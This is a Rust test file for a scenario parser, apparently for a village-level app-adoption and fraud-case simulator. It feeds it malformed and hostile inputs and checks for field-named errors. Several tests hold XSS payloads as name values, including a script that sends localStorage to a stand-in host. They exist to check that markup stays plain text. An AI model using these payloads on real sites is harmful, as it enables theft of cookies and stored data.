//! Hostile and broken files: each must give an error naming the field (or a valid scenario), never a panic.
//! Truncation, wrong types, NaN and 1e400, negative populations, dates out of order, deep nesting,
//! duplicate keys, versions from the future (random byte mutations: `fuzz.rs`).

use crate::common;

use serde_json::json;
use wuzha::{ErrorKind, Lang};

fn minimal_text() -> String {
    serde_json::to_string_pretty(&common::minimal()).unwrap_or_default()
}

/// Asserts that `text` is refused with an error at `path` whose messages are non-empty in both languages.
fn check_refused(text: &str, path: &str) {
    match wuzha::parse_scenario(text) {
        Ok(_) => panic!("accepted a bad file; expected an error at {path}"),
        Err(errors) => {
            assert!(errors.iter().any(|error| error.path == path), "no error at {path}: {errors:?}");
            for error in &errors {
                assert!(!error.path.is_empty());
                assert!(error.message(Lang::Zh).len() > error.path.len() + 2);
                assert!(error.message(Lang::En).len() > error.path.len() + 2);
            }
        }
    }
}

fn check_value_refused(edit: impl FnOnce(&mut serde_json::Value), path: &str) {
    let mut value = common::minimal();
    edit(&mut value);
    check_refused(&value.to_string(), path);
}

#[test]
fn the_fixture_itself_is_valid() {
    assert!(wuzha::parse_scenario(&minimal_text()).is_ok());
}

#[test]
fn truncated_files_are_refused_at_every_length() {
    let text = minimal_text();
    for cut in (0..text.len()).filter(|cut| text.is_char_boundary(*cut)) {
        assert!(wuzha::parse_scenario(&text[..cut]).is_err(), "accepted a file cut at {cut}");
    }
}

#[test]
fn wrong_types_name_the_field() {
    check_value_refused(|v| v["villages"][0]["residents"] = json!("many"), "villages[0].residents");
    check_value_refused(|v| v["segments"][0]["share"] = json!(null), "segments[0].share");
    check_value_refused(|v| v["villages"] = json!({}), "villages");
    check_value_refused(|v| v["products"][0]["q"] = json!([0.01]), "products[0].q");
    check_value_refused(|v| v["villages"][0]["residents"] = json!(2.5), "villages[0].residents");
}

#[test]
fn non_finite_and_huge_numbers_are_refused() {
    let text = minimal_text();
    check_refused(&text.replace("\"p0\": 0.0005", "\"p0\": NaN"), "products[0].p0");
    check_refused(&text.replace("\"p0\": 0.0005", "\"p0\": 1e400"), "products[0].p0");
    check_refused(&text.replace("\"p0\": 0.0005", "\"p0\": Infinity"), "products[0].p0");
    check_value_refused(|v| v["products"][0]["p0"] = json!(-1e308), "products[0].p0.value");
    check_value_refused(|v| v["villages"][0]["residents"] = json!(9_000_000_000_i64), "villages[0].residents");
    check_value_refused(|v| v["last_year"]["cases_total"] = json!(1e300), "last_year.cases_total");
}

#[test]
fn negative_or_absurd_populations_are_refused() {
    check_value_refused(|v| v["villages"][0]["residents"] = json!(-5), "villages[0].residents");
    check_value_refused(|v| v["villages"][0]["households"] = json!(0), "villages[0].households");
    check_value_refused(|v| v["villages"][0]["households"] = json!(5000), "villages[0].households");
    check_value_refused(|v| v["villages"][0]["grid_workers"] = json!(-1), "villages[0].grid_workers");
    check_value_refused(|v| v["segments"][0]["share"] = json!(1.5), "segments[0].share");
    check_value_refused(|v| v["segments"][0]["share"] = json!(0.5), "segments[*].share");
}

#[test]
fn dates_out_of_order_or_range_are_refused() {
    check_value_refused(|v| v["end_date"] = json!("2021-12-31"), "end_date");
    check_value_refused(|v| v["start_date"] = json!("2022-02-30"), "start_date");
    check_value_refused(|v| v["start_date"] = json!("1900-01-01"), "start_date");
    check_value_refused(|v| v["end_date"] = json!("2030-01-01"), "end_date");
    check_value_refused(|v| v["phases"][0]["end"] = json!("2021-06-01"), "phases[0].end");
    check_value_refused(
        |v| {
            v["phases"][0]["start"] = json!("2022-07-01");
            v["phases"][0]["end"] = json!("2022-06-01");
        },
        "phases[0].end",
    );
    check_value_refused(
        |v| {
            v["targets"] =
                json!([{ "id": "t", "name": "目标", "metric": "reach", "threshold": 0.5, "deadline": "2023-06-30" }])
        },
        "targets[0].deadline",
    );
}

#[test]
fn references_and_ids_are_checked() {
    check_value_refused(
        |v| v["schedule"] = json!([{ "channel": "van", "phase": "all_year", "units": 1 }]),
        "schedule[0].channel",
    );
    check_value_refused(
        |v| v["rewards"] = json!([{ "phase": "nope", "product": "national_app", "yuan_per_install": 2 }]),
        "rewards[0].phase",
    );
    check_value_refused(
        |v| {
            let copy = v["villages"][0].clone();
            if let Some(villages) = v["villages"].as_array_mut() {
                villages.push(copy);
            }
        },
        "villages[1].id",
    );
    check_value_refused(
        |v| {
            v["targets"] =
                json!([{ "id": "t", "name": "目标", "metric": "adoption", "threshold": 0.8, "deadline": "2022-06-30" }])
        },
        "targets[0].product",
    );
}

#[test]
fn structural_junk_is_refused() {
    let text = minimal_text();
    let deep = format!("{}{}", "[".repeat(300), "]".repeat(300));
    // The strict JSON reader stops at depth 128, at the place it got to (a path under `name`).
    let errors = wuzha::parse_scenario(&text.replacen("\"测试方案\"", &deep, 1)).err().unwrap_or_default();
    assert!(errors.len() == 1 && errors[0].path.starts_with("name[0]"), "{errors:?}");
    assert!(errors[0].message(Lang::En).contains("recursion limit"), "{}", errors[0].message(Lang::En));
    assert!(errors[0].message(Lang::En).len() < 400, "a long path is shortened in the message");
    assert!(wuzha::parse_scenario(&deep).is_err());
    // A duplicate key is reported at the object holding it, naming the key in the message.
    let duplicate = text.replacen("\"name\": \"测试方案\"", "\"name\": \"测试方案\", \"name\": \"again\"", 1);
    check_refused(&duplicate, ".");
    let message = wuzha::parse_scenario(&duplicate).err().unwrap_or_default()[0].message(Lang::En);
    assert!(message.contains("duplicate field `name`"), "{message}");
    check_refused(&format!("{text} {{}}"), ".");
    check_refused("", ".");
    check_refused("null", ".");
    // An unknown field is not refused but kept and warned about (migrate.rs); a null entry is refused.
    check_value_refused(|v| v["villages"][0] = json!(null), "villages[0]");
}

#[test]
fn a_file_from_a_newer_version_is_refused_whole() {
    let mut value = common::minimal();
    value["format_version"] = json!(2);
    let errors = wuzha::parse_scenario(&value.to_string()).err().unwrap_or_default();
    assert_eq!(errors.len(), 1);
    assert!(matches!(errors[0].kind, ErrorKind::NewerVersion { found: 2, newest: 1 }));
    assert_eq!(errors[0].path, "format_version");
    assert!(errors[0].message(Lang::Zh).contains("format_version"), "{}", errors[0].message(Lang::Zh));
    assert!(errors[0].message(Lang::En).contains("newer Wuzha"), "{}", errors[0].message(Lang::En));
}

#[test]
fn markup_in_names_is_kept_as_plain_text_and_invisible_characters_are_shown_without() {
    let mut value = common::minimal();
    value["villages"][0]["name"] = json!("<script>alert(1)</script>\u{202e}\u{200b}一村");
    let (file, scenario) = wuzha::parse_scenario(&value.to_string()).expect("names are free text");
    // The file keeps what was written (saving gives it back); the shown name drops the override and the space.
    assert_eq!(file.villages[0].name, "<script>alert(1)</script>\u{202e}\u{200b}一村");
    assert_eq!(scenario.villages[0].name, "<script>alert(1)</script>一村");
}

#[test]
fn a_byte_order_mark_is_accepted() {
    assert!(wuzha::parse_scenario(&format!("\u{feff}{}", minimal_text())).is_ok());
}

#[test]
fn too_many_villages_are_refused_before_per_entry_work() {
    let mut value = common::minimal();
    let village = value["villages"][0].clone();
    value["villages"] = json!(vec![village; wuzha::model::validate::MAX_VILLAGES + 1]);
    let errors = wuzha::parse_scenario(&value.to_string()).err().unwrap_or_default();
    assert_eq!(errors.len(), 1, "{errors:?}");
    assert_eq!(errors[0].path, "villages");
}

#[test]
fn reach_is_never_a_share_of_smartphone_holders() {
    check_value_refused(
        |v| {
            v["targets"] = json!([{ "id": "t", "name": "覆盖", "metric": "reach", "denominator": "smartphone_holders",
                                     "threshold": 0.5, "deadline": "2022-06-30" }])
        },
        "targets[0].denominator",
    );
}

// ---- The hostile corpus of issue 6: each case gives a valid scenario or errors naming the field, in under 2 s.

/// The most a hostile case may take, import through simulation: 2 s in an optimised build (what users run;
/// `cargo test --release --test integration hostile::`), three times that in an unoptimised test build.
const TIME_LIMIT: std::time::Duration = std::time::Duration::from_secs(if cfg!(debug_assertions) { 6 } else { 2 });

/// Imports, validates and (when valid) simulates `text` under the time limit; returns the errors (empty when valid).
fn timed(label: &str, text: &str) -> Vec<wuzha::FieldError> {
    let started = std::time::Instant::now();
    let read = wuzha::parse_scenario(text);
    let errors = match read {
        Ok((_, scenario)) => {
            let outcome = wuzha::simulate(&scenario);
            assert!(outcome.totals.cash_yuan.is_finite(), "{label}: non-finite cost");
            Vec::new()
        }
        Err(errors) => errors,
    };
    let took = started.elapsed();
    eprintln!("hostile corpus: {label}: {} bytes, {} errors, {took:?}", text.len(), errors.len());
    assert!(took < TIME_LIMIT, "{label} took {took:?}");
    for error in &errors {
        assert!(error.message(Lang::Zh).chars().count() < 400, "{label}: a message is too long");
        assert!(error.message(Lang::En).chars().count() < 400, "{label}: a message is too long");
    }
    errors
}

fn with_villages(rows: &str) -> String {
    minimal_text().replacen("\"villages\": [", &format!("\"villages\": [{rows}"), 1)
}

#[test]
fn files_over_the_size_limit_are_refused_before_parsing() {
    let fifty_mb = format!("{{\"name\": \"{}\"}}", "x".repeat(50 * 1024 * 1024));
    let errors = timed("50 MB of text", &fifty_mb);
    assert_eq!(errors.len(), 1);
    assert_eq!(
        errors[0].kind,
        ErrorKind::FileTooLarge { bytes: fifty_mb.len() as u64, max: wuzha::MAX_FILE_BYTES as u64 }
    );
    assert_eq!(errors[0].path, ".");
    let village = r#"{"id": "v", "name": "村", "residents": 100, "households": 40, "grids": 1, "grid_workers": 1}, "#;
    let million_full_rows = with_villages(&village.repeat(1_000_000));
    assert!(matches!(timed("a million full village rows", &million_full_rows)[0].kind, ErrorKind::FileTooLarge { .. }));
    let just_over = format!("{}{}", minimal_text(), " ".repeat(wuzha::MAX_FILE_BYTES));
    assert!(matches!(timed("valid JSON padded past the limit", &just_over)[0].kind, ErrorKind::FileTooLarge { .. }));
}

#[test]
fn a_million_row_village_list_under_the_size_limit_is_refused_by_field() {
    let errors = timed("a million empty village rows", &with_villages(&"{}, ".repeat(1_000_000)));
    assert_eq!(errors[0].path, "villages[0]", "{errors:?}");
    let errors = timed("a million null village rows", &with_villages(&"null,".repeat(1_000_000)));
    assert_eq!(errors[0].path, "villages[0]", "{errors:?}");
    // Rows that parse: the list is refused as too long before any per-village work.
    let village = r#"{"id":"v","name":"村","residents":9,"households":4,"grids":1,"grid_workers":1},"#;
    let rows = village.repeat(wuzha::MAX_FILE_BYTES / village.len() - 100);
    let errors = timed("60 000 parseable village rows", &with_villages(&rows));
    assert!(errors.iter().any(|error| error.path == "villages" && matches!(error.kind, ErrorKind::TooMany { .. })));
}

/// A valid file just under the size limit: every list at its limit, and a long note for the rest.
fn largest_valid_file() -> String {
    let mut value = common::minimal();
    let villages: Vec<serde_json::Value> = (0..wuzha::model::validate::MAX_VILLAGES)
        .map(|idx| json!({ "id": format!("v{idx}"), "name": format!("村{idx}"), "residents": 3000, "households": 1000, "grids": 3, "grid_workers": 3 }))
        .collect();
    value["villages"] = json!(villages);
    value["channels"] = json!([common::banner(), common::visits()]);
    let schedule: Vec<serde_json::Value> = (0..wuzha::model::validate::MAX_SCHEDULE)
        .map(|idx| json!({ "channel": if idx % 2 == 0 { "banner" } else { "visit" }, "phase": "all_year", "units": 0.01, "village": format!("v{}", idx % 500) }))
        .collect();
    value["schedule"] = json!(schedule);
    let text = serde_json::to_string(&value).unwrap_or_default();
    let room = wuzha::MAX_FILE_BYTES - text.len() - 100;
    value["note"] = json!("注".repeat(room / 3));
    serde_json::to_string(&value).unwrap_or_default()
}

#[test]
fn the_largest_valid_file_opens_and_simulates_in_time() {
    let text = largest_valid_file();
    assert!(text.len() > wuzha::MAX_FILE_BYTES - 200 && text.len() <= wuzha::MAX_FILE_BYTES, "{}", text.len());
    assert_eq!(timed("largest valid file (500 villages, 2000 schedule lines, a long note)", &text), []);
}

#[test]
fn script_and_javascript_in_names_are_plain_text() {
    let mut value = common::minimal();
    value["name"] = json!("<img src=x onerror=alert(1)>方案");
    value["township"]["name"] = json!("javascript:alert(document.cookie)");
    value["villages"][0]["name"] = json!("<script>fetch('https://evil.example/'+localStorage)</script>");
    value["products"][0]["name"] = json!("</textarea><svg onload=alert(1)>");
    let text = value.to_string();
    assert_eq!(timed("markup in names", &text), []);
    let (_, scenario) = wuzha::parse_scenario(&text).expect("valid");
    assert_eq!(scenario.name, "<img src=x onerror=alert(1)>方案");
    assert_eq!(scenario.township_name, "javascript:alert(document.cookie)");
    assert!(scenario.villages[0].name.starts_with("<script>"));
}

#[test]
fn invisible_and_direction_changing_characters_are_refused_in_ids_and_left_out_of_names() {
    for (label, id) in [
        ("zero-width space", "v\u{200b}1"),
        ("right-to-left override", "\u{202e}1v"),
        ("BOM", "v1\u{feff}"),
        ("NUL", "v\u{0}1"),
    ] {
        let mut value = common::minimal();
        value["villages"][0]["id"] = json!(id);
        let errors = timed(&format!("{label} in an id"), &value.to_string());
        assert!(
            errors.iter().any(|e| e.path == "villages[0].id" && matches!(e.kind, ErrorKind::InvisibleCharacter { .. })),
            "{label}: {errors:?}"
        );
        assert!(errors[0].message(Lang::Zh).contains("不可见"), "{}", errors[0].message(Lang::Zh));
    }
    let mut value = common::minimal();
    value["segments"][0]["name"] = json!("\u{202e}体全\u{200f}");
    value["products"][0]["name"] = json!("\u{200b}\u{2066}");
    let errors = timed("a name of invisible characters only", &value.to_string());
    assert_eq!(errors.iter().map(|e| e.path.as_str()).collect::<Vec<_>>(), ["products[0].name"]);
    value["products"][0]["name"] = json!("App");
    let (_, scenario) = wuzha::parse_scenario(&value.to_string()).expect("valid");
    assert_eq!(scenario.segments[0].name, "体全", "shown without the override, so it cannot flip the line");
}

#[test]
fn null_entries_are_refused_at_their_path_or_read_as_absent() {
    check_value_refused(|v| v["segments"] = json!([null]), "segments[0]");
    check_value_refused(|v| v["phases"][0] = json!(null), "phases[0]");
    check_value_refused(|v| v["schedule"] = json!([null]), "schedule[0]");
    check_value_refused(|v| v["township"] = json!(null), "township");
    check_value_refused(|v| v["villages"][0]["residents"] = json!(null), "villages[0].residents");
    check_value_refused(
        |v| v["last_year"]["cases_monthly"] = json!([1, 2, null, 4, 5, 6, 7, 8, 9, 10, 11, 12]),
        "last_year.cases_monthly[2]",
    );
    // An optional field written as null is the same as leaving it out.
    let mut value = common::minimal();
    value["note"] = json!(null);
    value["budget"] = json!({ "total_yuan": null });
    assert_eq!(timed("null optional fields", &value.to_string()), []);
}

#[test]
fn extreme_numbers_are_refused_at_their_path() {
    let cases: [(&str, serde_json::Value, &str); 8] = [
        ("/segments/0/share", json!(-1e308), "segments[0].share"),
        ("/products/0/q", json!(-1e308), "products[0].q.value"),
        ("/products/0/q", json!({ "value": 0.01, "low": -1e308 }), "products[0].q.low"),
        ("/last_year/cases_total", json!(1.7976931348623157e308), "last_year.cases_total"),
        ("/budget", json!({ "total_yuan": -1e308 }), "budget.total_yuan"),
        ("/seed", json!(u64::MAX), "seed"),
        ("/behaviour/case_trend", json!(5e-324), "."),
        ("/villages/0/residents", json!(i64::MAX), "villages[0].residents"),
    ];
    for (pointer, number, path) in cases {
        let mut value = common::minimal();
        if let Some(slot) = value.pointer_mut(pointer) {
            *slot = number;
        } else if let Some(object) = value.as_object_mut() {
            object.insert(pointer.trim_start_matches('/').to_string(), number);
        }
        let errors = timed(&format!("{pointer} extreme"), &value.to_string());
        if path == "." {
            // The smallest subnormal is a valid (tiny) trend: accepted, and the simulation stays finite.
            assert_eq!(errors, [], "{pointer}");
        } else {
            assert!(errors.iter().any(|error| error.path == path), "{pointer}: {errors:?}");
        }
    }
}

#[test]
fn dates_out_of_range_or_malformed_are_refused() {
    for date in [
        "9999-12-31",
        "0000-01-01",
        "2022-00-10",
        "2022-13-01",
        "2023-02-29",
        "+022-01-01",
        "２０２２-01-01",
        "2022-1-1",
        "2022/01/01",
        "",
    ] {
        check_value_refused(|v| v["start_date"] = json!(date), "start_date");
    }
    let long = "2022-01-01".repeat(100_000);
    let mut value = common::minimal();
    value["phases"][0]["end"] = json!(long);
    let errors = timed("a megabyte date", &value.to_string());
    assert!(errors.iter().any(|error| error.path == "phases[0].end"), "{errors:?}");
}

#[test]
fn absurd_populations_are_refused() {
    check_value_refused(|v| v["villages"][0]["residents"] = json!(i64::MIN), "villages[0].residents");
    check_value_refused(|v| v["villages"][0]["residents"] = json!(2_000_001), "villages[0].residents");
    check_value_refused(
        |v| v["villages"][0]["grid_workers"] = json!(1_000_000_000_000_i64),
        "villages[0].grid_workers",
    );
    check_refused(&minimal_text().replace("\"residents\": 1000", "\"residents\": 1e6"), "villages[0].residents");
    check_refused(
        &minimal_text().replace("\"residents\": 1000", "\"residents\": 99999999999999999999"),
        "villages[0].residents",
    );
    // Five hundred villages of two million people each: allowed, and the simulation stays finite and fast.
    let mut value = common::minimal();
    let villages: Vec<serde_json::Value> = (0..500)
        .map(|idx| json!({ "id": format!("v{idx}"), "name": "大村", "residents": 2_000_000, "households": 2_000_000, "grids": 100_000, "grid_workers": 100_000 }))
        .collect();
    value["villages"] = json!(villages);
    value["channels"] = json!([common::visits()]);
    value["schedule"] =
        json!([{ "channel": "visit", "phase": "all_year", "units": 1e7, "per": "day", "basis": "per_grid_worker" }]);
    assert_eq!(timed("a billion residents, every grid worker visiting daily", &value.to_string()), []);
}

/// The messages of the refusal of `value`'s file, in both languages.
fn messages_of(value: &serde_json::Value) -> Vec<(String, String)> {
    match wuzha::parse_scenario(&value.to_string()) {
        Ok(_) => panic!("accepted a bad file"),
        Err(errors) => errors.iter().map(|error| (error.message(Lang::Zh), error.message(Lang::En))).collect(),
    }
}

#[test]
fn messages_tell_the_truth_about_comparisons_numbers_and_ranges() {
    // A sum of weights that must be above 0: not "value 0 is out of range (≥ 0)".
    let mut value = common::minimal();
    let mut banner = common::banner();
    banner["affinity"] = json!({ "all": 0.0 });
    value["channels"] = json!([banner]);
    let messages = messages_of(&value);
    assert!(
        messages.iter().any(|(zh, en)| en == "channels[0].affinity: value 0 must be greater than 0"
            && zh == "channels[0].affinity: 数值 0 必须大于 0"),
        "{messages:?}"
    );
    assert!(messages.iter().all(|(_, en)| !en.contains("(≥ 0)")), "{messages:?}");

    // A huge number in short form, not 309 digits.
    let mut value = common::minimal();
    value["products"][0]["p0"] = json!(1e308);
    let messages = messages_of(&value);
    assert!(messages.iter().all(|(zh, en)| zh.len() < 300 && en.len() < 300), "{messages:?}");
    assert!(messages.iter().any(|(_, en)| en.contains("1.0e308")), "{messages:?}");

    // A range whose bound comes from a field that is itself wrong is never printed upside down.
    let mut value = common::minimal();
    value["segments"][0]["smartphone_share"] = json!(-0.5);
    value["segments"][0]["initial_adopted"] = json!({ "national_app": 0.1 });
    let messages = messages_of(&value);
    assert!(messages.iter().all(|(_, en)| !en.contains("0 – -0.5")), "{messages:?}");
}

#[test]
fn a_lone_surrogate_escape_is_named_as_such() {
    let text = minimal_text();
    for (escape, code) in [("\\ud800", "D800"), ("\\udc00", "DC00"), ("\\ud800\\u0041", "D800")] {
        let bad = text.replacen("\"测试镇\"", &format!("\"测试{escape}镇\""), 1);
        let errors = match wuzha::parse_scenario(&bad) {
            Ok(_) => panic!("accepted a lone surrogate {escape}"),
            Err(errors) => errors,
        };
        assert!(matches!(errors[0].kind, ErrorKind::LoneSurrogate { .. }), "{errors:?}");
        let en = errors[0].message(Lang::En);
        assert!(en.contains(&format!("\\u{code} on line")) && en.contains("lone surrogate"), "{en}");
        assert!(!en.contains("unexpected end of hex escape"), "{en}");
        assert!(errors[0].message(Lang::Zh).contains("单独的代理项"));
    }
    // A whole pair is a character, and an escaped backslash before "ud800" is no escape at all.
    let pair = text.replacen("\"测试镇\"", "\"测试\\ud83d\\ude00镇\"", 1);
    assert!(wuzha::parse_scenario(&pair).is_ok());
    let not_escape = text.replacen("\"测试镇\"", "\"测试\\\\ud800镇\"", 1);
    assert!(wuzha::parse_scenario(&not_escape).is_ok());
}

#[test]
fn utf16_and_gbk_bytes_are_recognised() {
    use wuzha::format::import::{decode_text, guess_encoding};
    use wuzha::EncodingGuess;
    let json = minimal_text();
    let le: Vec<u8> = json.encode_utf16().flat_map(u16::to_le_bytes).collect();
    assert_eq!(guess_encoding(&le), EncodingGuess::Utf16);
    assert_eq!(guess_encoding(&[0xFE, 0xFF, 0, b'{']), EncodingGuess::Utf16);
    assert_eq!(guess_encoding(b"{\"name\": \"\xb2\xe2\xca\xd4\"}"), EncodingGuess::Gbk);
    assert_eq!(
        guess_encoding(&[0x89, b'P', b'N', b'G', 0x0D, 0x0A, 0x1A, 0x0A, 0, 0, 0, 0x0D, 0xFF]),
        EncodingGuess::Unknown
    );
    assert_eq!(decode_text(json.clone().into_bytes()).ok(), Some(json));
    let error = decode_text(le).err().unwrap_or_else(|| panic!("UTF-16 accepted as UTF-8"));
    assert!(error.message(Lang::En).contains("UTF-16") && error.message(Lang::Zh).contains("另存为"));
}

/// Asserts that the edited fixture is refused with an error of the given kind at `path`, and that every
/// message names its field path in both languages.
fn check_refused_as(edit: impl FnOnce(&mut serde_json::Value), path: &str, kind: fn(&ErrorKind) -> bool) {
    let mut value = common::minimal();
    edit(&mut value);
    let errors = match wuzha::parse_scenario(&value.to_string()) {
        Ok(_) => panic!("accepted a bad file; expected an error at {path}"),
        Err(errors) => errors,
    };
    assert!(errors.iter().any(|error| error.path == path && kind(&error.kind)), "no such error at {path}: {errors:?}");
    for error in &errors {
        assert!(error.message(Lang::Zh).starts_with(&format!("{}: ", error.path)));
        assert!(error.message(Lang::En).starts_with(&format!("{}: ", error.path)));
    }
}

#[test]
fn households_beyond_residents_and_absurd_case_counts_are_refused() {
    check_value_refused(|v| v["villages"][0]["households"] = json!(1001), "villages[0].households");
    // A million cases a month for the fixture's 1 000 residents; 51 a year per 1 000 is just over the bound
    // (above the 20 cases always allowed).
    check_refused_as(
        |v| {
            v["last_year"] = json!({ "cases_monthly": vec![1_000_000; 12] });
        },
        "last_year.cases_monthly",
        |kind| matches!(kind, ErrorKind::TooManyCases { .. }),
    );
    check_refused_as(
        |v| v["last_year"]["cases_total"] = json!(51),
        "last_year.cases_total",
        |kind| matches!(kind, ErrorKind::TooManyCases { .. }),
    );
    let mut value = common::minimal();
    value["last_year"]["cases_total"] = json!(50);
    assert!(wuzha::parse_scenario(&value.to_string()).is_ok(), "50 per 1 000 is allowed");
}

#[test]
fn a_loss_with_zero_cases_is_warned_about() {
    let mut value = common::minimal();
    value["last_year"] = json!({ "cases_total": 0, "loss_total_yuan": 500000 });
    let imported = wuzha::import(&value.to_string()).unwrap_or_else(|errors| panic!("{errors:?}"));
    let warning = imported.warnings.iter().find(|warning| warning.kind == wuzha::WarningKind::LossWithoutCases);
    let warning = warning.unwrap_or_else(|| panic!("no warning: {:?}", imported.warnings));
    assert!(warning.message(Lang::En).starts_with("last_year.loss_total_yuan: last year's loss is given but"));
    assert!(warning.message(Lang::Zh).contains("去年发案数为 0"));
}

#[test]
fn daily_rates_are_bounded_so_a_daily_hazard_means_something() {
    check_value_refused(|v| v["products"][0]["p0"] = json!(1.0), "products[0].p0.value");
    check_value_refused(|v| v["products"][0]["q"] = json!(0.6), "products[0].q.value");
    check_value_refused(|v| v["products"][0]["uninstall_rate"] = json!(0.2), "products[0].uninstall_rate.value");
    // At the bounds, installs stay within the people who can install: adoption never above the smartphone
    // share, and real installs over the year at most everyone once plus the re-installs after uninstalls.
    let mut value = common::minimal();
    value["products"][0]["p0"] = json!(0.1);
    value["products"][0]["q"] = json!(0.5);
    value["products"][0]["uninstall_rate"] = json!(0.05);
    let outcome = common::outcome(&value);
    assert!(outcome.daily.adopted[0].iter().all(|share| (0.0..=1.0).contains(share)));
    let installs: f64 = outcome.totals.installs_real.iter().sum();
    assert!(installs <= 1000.0 * (1.0 + 0.05 * 365.0) + 1e-6, "{installs}");
}

#[test]
fn tiny_shares_that_would_underflow_are_refused() {
    for (field, path) in [
        ("share", "segments[1].share"),
        ("smartphone_share", "segments[1].smartphone_share"),
        ("victim_share", "segments[1].victim_share"),
    ] {
        check_refused_as(
            |v| {
                let mut second = v["segments"][0].clone();
                second["id"] = json!("tiny");
                second[field] = json!(5e-324);
                v["segments"][0][field] = json!(1.0);
                v["segments"] = json!([v["segments"][0].clone(), second]);
            },
            path,
            |kind| matches!(kind, ErrorKind::TooSmallShare { .. }),
        );
    }
}

#[test]
fn lookalike_ids_are_refused_naming_both() {
    for lookalike in ["v1 ", " v1", "V1", "v\u{00A0}1", "ｖ１", "v1\u{3000}", "\u{0475}1"] {
        let mut value = common::minimal();
        let mut second = value["villages"][0].clone();
        second["id"] = json!(lookalike);
        value["villages"] = json!([value["villages"][0].clone(), second]);
        let errors = match wuzha::parse_scenario(&value.to_string()) {
            Ok(_) => panic!("accepted {lookalike:?} beside v1"),
            Err(errors) => errors,
        };
        let error = errors.iter().find(|error| error.path == "villages[1].id");
        let error = error.unwrap_or_else(|| panic!("{lookalike:?}: {errors:?}"));
        assert!(matches!(error.kind, ErrorKind::LookalikeId { .. } | ErrorKind::DuplicateId { .. }), "{error:?}");
        let en = error.message(Lang::En);
        assert!(en.contains("\"v1\" at villages[0].id"), "{en}");
    }
    // A Cyrillic 'о' for a Latin 'o' in "town" is a homoglyph of it.
    let mut value = common::minimal();
    let mut second = value["villages"][0].clone();
    value["villages"][0]["id"] = json!("town");
    second["id"] = json!("t\u{043E}wn");
    value["villages"] = json!([value["villages"][0].clone(), second]);
    check_refused(&value.to_string(), "villages[1].id");
}

#[test]
fn names_made_only_of_blank_looking_characters_are_refused() {
    for blank in ["\u{3164}", "\u{2800}\u{2800}", " \u{115F}\u{1160} ", "\u{FE0F}", "\u{00A0}\u{3000}", "\u{200B}"] {
        check_refused_as(
            |v| v["villages"][0]["name"] = json!(blank),
            "villages[0].name",
            |kind| matches!(kind, ErrorKind::Empty),
        );
        check_refused_as(
            |v| v["villages"][0]["id"] = json!(blank),
            "villages[0].id",
            |kind| matches!(kind, ErrorKind::Empty | ErrorKind::InvisibleCharacter { .. }),
        );
    }
}

#[test]
fn phase_nesting_cycles_are_refused() {
    check_refused_as(
        |v| {
            v["phases"] = json!([
                { "id": "a", "name": "甲", "start": "2022-01-01", "end": "2022-12-31", "parent": "b" },
                { "id": "b", "name": "乙", "start": "2022-01-01", "end": "2022-12-31", "parent": "c" },
                { "id": "c", "name": "丙", "start": "2022-01-01", "end": "2022-12-31", "parent": "a" },
                { "id": "d", "name": "丁", "start": "2022-01-01", "end": "2022-12-31", "parent": "a" }
            ]);
            v["schedule"] = json!([]);
        },
        "phases[0].parent",
        |kind| matches!(kind, ErrorKind::NestingCycle { chain } if chain == "a → b → c → a"),
    );
    check_refused_as(
        |v| {
            v["phases"] = json!([
                { "id": "x", "name": "甲", "start": "2022-01-01", "end": "2022-12-31", "parent": "y" },
                { "id": "y", "name": "乙", "start": "2022-01-01", "end": "2022-12-31", "parent": "x" }
            ]);
        },
        "phases[0].parent",
        |kind| matches!(kind, ErrorKind::NestingCycle { .. }),
    );
}
